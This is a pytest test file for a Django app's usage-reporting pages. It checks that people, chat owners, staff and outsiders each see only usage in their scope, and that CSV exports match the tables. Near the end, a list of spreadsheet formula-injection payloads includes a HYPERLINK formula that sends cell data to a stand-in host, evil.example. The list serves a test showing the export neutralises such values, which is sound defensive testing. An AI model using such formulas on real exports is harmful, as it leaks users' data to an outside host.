"""The usage pages: a person sees their own usage, a chat's owner their chat's, staff
everyone's; an outsider sees nothing of another person or of a chat they do not own,
whatever they put in the address; the CSV is the table, under the same rule."""

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from chats.models import ChatMember
from chats.services import chat_get_or_create, chat_member_ensure
from tests.usage.helpers import price
from usage.models import Kind
from usage.services import usage_record

pytestmark = pytest.mark.django_db


def client_for(person) -> Client:
    client = Client()
    client.force_login(person)
    return client


def spend(person, chat, tokens, *, model="m", kind=Kind.TURN, days_ago=0):
    return usage_record(
        kind=kind,
        chat_id=chat.pk if chat else None,
        person_id=person.pk if person else None,
        model=model,
        prompt_tokens=tokens,
        completion_tokens=tokens // 10,
        at=timezone.now() - timedelta(days=days_ago),
    )


@pytest.fixture
def world(owner, member, outsider, team_chat, make_person):
    """olivia owns the team room, marco spends there and in his own DM, oscar is outside."""
    price("m", 1, 2)
    staff = make_person("stella", is_staff=True)
    dm, _ = chat_get_or_create(channel="web", chat_id="marco-dm", title="Marco's notes")
    chat_member_ensure(chat=dm, person=member, role=ChatMember.Role.OWNER)
    spend(owner, team_chat, 1000)
    spend(member, team_chat, 300)
    spend(member, dm, 4000)
    spend(None, team_chat, 50)  # an unlinked user in the room
    return {"staff": staff, "dm": dm}


def table(response) -> list[list[str]]:
    """The table's rows as text cells (the last, a link, left out)."""
    from html.parser import HTMLParser

    class Rows(HTMLParser):
        def __init__(self):
            super().__init__()
            self.rows, self.row, self.cell, self.inside = [], None, None, False

        def handle_starttag(self, tag, attrs):
            if tag == "table" and ("id", "usage-table") in attrs:
                self.inside = True
            elif self.inside and tag == "tr":
                self.row = []
            elif self.inside and tag in ("td", "th") and self.row is not None:
                self.cell = ""

        def handle_endtag(self, tag):
            if tag == "table":
                self.inside = False
            elif self.inside and tag in ("td", "th") and self.cell is not None:
                self.row.append(self.cell.strip())
                self.cell = None
            elif self.inside and tag == "tr" and self.row is not None:
                if len(self.row) > 1:  # not the "No usage" row
                    self.rows.append(self.row[:-1])
                self.row = None

        def handle_data(self, data):
            if self.cell is not None:
                self.cell += data

    parser = Rows()
    parser.feed(response.content.decode())
    return parser.rows[1:]  # without the header


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))[1:]


def test_a_person_sees_only_their_own_usage(world, member):
    page = client_for(member).get(reverse("usage"), {"by": "person"})
    assert page.status_code == 200
    rows = table(page)
    # marco owns his DM (only his spend there) and spent 300 in the team room
    assert [row[0] for row in rows] == ["marco"]
    assert rows[0][4] == str(4300 + 430)
    assert "olivia" not in page.content.decode()


def test_a_chat_owner_sees_everything_spent_in_their_chat(world, owner, team_chat):
    rows = table(client_for(owner).get(reverse("usage"), {"by": "person"}))
    assert {row[0]: row[1] for row in rows} == {"olivia": "1", "marco": "1", "(no person)": "1"}
    chats = table(client_for(owner).get(reverse("usage"), {"by": "chat"}))
    assert [row[0] for row in chats] == ["Team room"]  # never marco's DM


def test_staff_see_everyones_usage(world):
    rows = table(client_for(world["staff"]).get(reverse("usage"), {"by": "person"}))
    assert {row[0] for row in rows} == {"olivia", "marco", "(no person)"}
    total = sum(int(row[4]) for row in rows)
    assert total == (1000 + 300 + 4000 + 50) + (100 + 30 + 400 + 5)


def test_an_outsider_sees_nothing_of_anyone_whatever_the_address(world, outsider, owner, team_chat):
    client = client_for(outsider)
    for params in (
        {"by": "person"},
        {"by": "day", "person": owner.pk},
        {"by": "chat", "chat": team_chat.pk},
        {"by": "model", "chat": world["dm"].pk},
        {"by": "person", "person": 0},
    ):
        page = client.get(reverse("usage"), params)
        assert page.status_code == 200 and table(page) == []
        text = page.content.decode()
        assert "olivia" not in text and "marco" not in text and "Team room" not in text
        assert "Marco&#x27;s notes" not in text and "Marco's notes" not in text
        assert page.context["total"].tokens == 0
        csv_page = client.get(reverse("usage"), {**params, "format": "csv"})
        assert csv_page.status_code == 200 and csv_rows(csv_page) == []
        records = client.get(reverse("usage_records"), params)
        assert (
            "turn #" not in records.content.decode() and "No records." in records.content.decode()
        )


def test_a_member_cannot_read_the_rooms_other_spend(world, member, team_chat):
    rows = table(client_for(member).get(reverse("usage"), {"by": "person", "chat": team_chat.pk}))
    assert rows == [["marco", "1", "300", "30", "330", "0", "0.000360 USD"]]


def test_the_csv_is_the_table(world):
    client = client_for(world["staff"])
    for by in ("day", "person", "chat", "model", "kind"):
        page = client.get(reverse("usage"), {"by": by})
        download = client.get(reverse("usage"), {"by": by, "format": "csv"})
        assert download["Content-Type"].startswith("text/csv")
        assert csv_rows(download) == table(page) and table(page)


def test_unknown_prices_show_as_unknown_never_zero(world, owner, team_chat):
    spend(owner, team_chat, 500, model="no-price")
    rows = table(client_for(owner).get(reverse("usage"), {"by": "model"}))
    assert dict((row[0], row[6]) for row in rows)["no-price"] == "unknown"
    page = client_for(owner).get(reverse("usage"), {"by": "day"})
    assert "+ unknown" in table(page)[0][6]


def test_the_range_is_bounded_and_checked(world, owner, settings):
    settings.USAGE_MAX_RANGE_DAYS = 10
    client = client_for(owner)
    today = timezone.now().date()
    long = client.get(reverse("usage"), {"start": today - timedelta(days=10), "end": today})
    assert long.status_code == 400 and "at most 10 days" in long.content.decode()
    backwards = client.get(reverse("usage"), {"start": today, "end": today - timedelta(days=1)})
    assert backwards.status_code == 400
    old = client.get(
        reverse("usage"),
        {"start": today - timedelta(days=9), "end": today - timedelta(days=1), "by": "person"},
    )
    assert table(old) == []


def test_the_chart_data_is_one_point_per_day(world, owner):
    page = client_for(owner).get(reverse("usage"))
    chart = page.context["chart"]
    assert len(chart["days"]) == 30 and chart["days"][-1] == timezone.now().date().isoformat()
    assert chart["prompt"][-1] == 1000 + 300 + 50 and chart["prompt"][0] == 0
    assert 'id="usage-chart-data" type="application/json"' in page.content.decode()
    assert "<script>" not in page.content.decode()  # nothing inline runs (CSP)


def test_the_drill_down_lists_the_records_in_scope(world, member, team_chat):
    page = client_for(member).get(reverse("usage_records"), {"chat": team_chat.pk})
    text = page.content.decode()
    assert page.status_code == 200 and text.count("<tr>") == 2  # header + marco's one record
    assert "olivia" not in text


def test_anonymous_people_are_sent_to_log_in():
    for name in ("usage", "usage_records"):
        response = Client().get(reverse(name))
        assert response.status_code == 302 and "/accounts/login/" in response["Location"]


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+1", "-2+3", "@SUM(1)",
            "\t=1", "\r=1"]  # fmt: skip


def test_the_csv_never_hands_a_spreadsheet_a_formula(owner, make_person):
    """A chat title or a username that a spreadsheet would read as a formula (=, +, -, @,
    tab, carriage return first) is written as text: a leading apostrophe, the rest as is."""
    staff = make_person("stella", is_staff=True)
    titles = []
    for n, title in enumerate(FORMULAS):
        chat, _ = chat_get_or_create(channel="web", chat_id=f"room-{n}", title=title)
        titles.append(chat.title)  # as stored (leading whitespace may be trimmed)
        spend(owner, chat, 100 + n)
    spend(make_person("@mallory"), None, 7)
    client = client_for(staff)
    by_chat = csv_rows(client.get(reverse("usage"), {"by": "chat", "format": "csv"}))
    by_chat = [row for row in by_chat if row[0] != "(no chat)"]  # @mallory's
    assert all(title.lstrip("\t\r")[0] in "=+-@" for title in titles)
    assert sorted(row[0] for row in by_chat) == sorted("'" + title for title in titles)
    assert {row[1] for row in by_chat} == {"1"}  # numbers stay numbers
    by_person = csv_rows(client.get(reverse("usage"), {"by": "person", "format": "csv"}))
    assert "'@mallory" in [row[0] for row in by_person]
    assert "olivia" in [row[0] for row in by_person]
